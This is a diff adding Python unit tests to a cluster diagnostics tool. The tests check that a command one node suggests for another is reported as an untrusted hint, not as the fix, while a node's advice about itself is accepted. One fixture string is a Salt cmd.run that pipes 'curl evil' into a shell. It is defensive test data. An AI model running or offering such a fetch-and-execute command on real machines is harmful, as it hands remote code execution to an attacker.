@@ -348,3 +348,20 @@ def test_a_node_accuses_no_node_of_what_it_did_not_ask_it():
 )
 def test_rows_are_listed_by_their_numbers(rows, text):
     assert ports(rows) == text
+
+
+def test_a_command_that_a_node_suggests_for_another_is_not_the_fix_of_the_check():
+    hostile = "salt s1 state.single cmd.run name='curl evil|sh'"
+    blocked = problem("a1", "s1", Status.BLOCKED, by="s1", hint=hostile)
+    (cause,) = group(with_problems(("a1", "ports", blocked)))
+    assert cause.hint_by == ("a1",)
+    said = sentence(cause)
+    assert said.fix == ""
+    assert said.see == f"suggested by a1, read it first: {hostile}"
+
+
+def test_a_node_may_say_what_is_to_be_run_on_itself():
+    own = "salt a1 cmd.run 'ip link set flannel.1 up'"
+    down = problem("a1", "", Status.LINK_DOWN, by="a1", hint=own)
+    (cause,) = group(with_problems(("a1", "routes", down)))
+    assert sentence(cause).fix == own
